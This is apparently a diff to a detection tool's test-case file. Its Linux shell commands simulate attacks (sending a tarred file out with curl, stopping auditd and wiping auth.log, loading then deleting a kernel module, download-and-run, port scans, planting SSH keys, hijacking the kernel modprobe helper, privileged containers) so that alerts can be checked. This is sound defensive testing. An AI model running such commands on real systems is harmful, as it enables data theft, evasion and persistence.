@@ -69,7 +69,7 @@ tar cf /tmp/x.tar /etc/hosts; curl -s -T /tmp/x.tar http://10.9.8.7/
 #also Log files cleared
 #also Security tool stopped
 #also Security tools looked for
-systemctl stop auditd; : > /var/log/auth.log
+systemctl stop auditd; sh -c ': > /var/log/auth.log'
 ## Module loaded, then its file removed
 #also Kernel module loaded from a file
 : > /tmp/rk.ko; busybox insmod /tmp/rk.ko; rm -f /tmp/rk.ko
@@ -91,8 +91,6 @@ remote "python3 -c 'import pty; pty.spawn(\"/bin/true\")'"
 #also Program in a scratch folder made executable, then run
 #setup web
 curl -s -o /tmp/x http://10.9.8.7:8000/connect; chmod +x /tmp/x; /tmp/x tcp4 203.0.113.9 3333
-## Services stopped, then files encrypted
-for n in mysql nginx docker; do systemctl stop $n; done; for n in $(seq 1 11); do : > /home/ann/$n.locked; done
 ## Ports tried, then a login
 #also Ports tried by code without a file
 #setup listener 22
@@ -101,10 +99,14 @@ import socket
 for port in list(range(30, 50)) + [22]:
   s = socket.socket(); s.connect_ex(("10.9.8.7", port)); s.close()'
 ## Shell in a container by exec, then a download
+#also Command run in a container by hand
+#also Container started by hand
+#also Download tool in a container
 #setup image
 engine; docker run -d --name web --network none debian:12 sleep 100; docker cp /bin/true web:/usr/bin/curl; docker exec -t web sh -c 'curl http://10.9.8.7/; :'
 ## Process changed, then a connection of its own
 #also Code put into another process
+#also Code without a file connects to an address without a name
 python3 -c '
 import ctypes, os, socket, time
 word = ctypes.create_string_buffer(8); child = os.fork()
@@ -146,26 +148,3 @@ useradd -m -s /bin/bash eve; usermod -aG sudo eve; end_log
 #setup prepare_sshd; start_log
 /usr/sbin/sshd -f /srv/sshd
 useradd -m -s /bin/sh eve; echo eve:right | chpasswd; login right eve; end_log
-## Key planted, then used
-#also SSH authorized keys written
-#setup prepare_sshd; start_log; ssh-keygen -q -t ed25519 -N '' -f /srv/key
-/usr/sbin/sshd -f /srv/sshd
-mkdir -p /home/ann/.ssh; cat /srv/key.pub >> /home/ann/.ssh/authorized_keys; chown -R 1000:1000 /home/ann/.ssh
-ssh -o StrictHostKeyChecking=no -o LogLevel=ERROR -i /srv/key ann@203.0.113.9 true; end_log
-## Helper of the kernel named by a container, then run
-#also Executable run from a scratch folder
-#also Kernel helper changed by a container
-#also Suspicious Process Execution
-#in shop:1
-#guest the program that the kernel starts has no namespace
-#setup stubs /var/tmp/x; printf '\377\377\377\377' > /var/tmp/y; chmod 755 /var/tmp/y
-was=$(cat /proc/sys/kernel/modprobe); echo /var/tmp/x > /proc/sys/kernel/modprobe; /var/tmp/y; sleep 2; echo "$was" > /proc/sys/kernel/modprobe; checked
-## Runtime's socket used, then a privileged container
-#also Client of a container engine started in a container
-#also Container runtime socket used from a container
-#also Privileged container started
-#also Suspicious Process Execution
-#in shop:1
-#guest a container gets at most the rights of its creator, and root lacks some of them on some machines
-#setup image; (echo 0 > /sys/fs/cgroup/cgroup.procs; engine /docker)
-docker run --privileged --network none debian:12 true; kill "$(cat /run/docker.pid)"
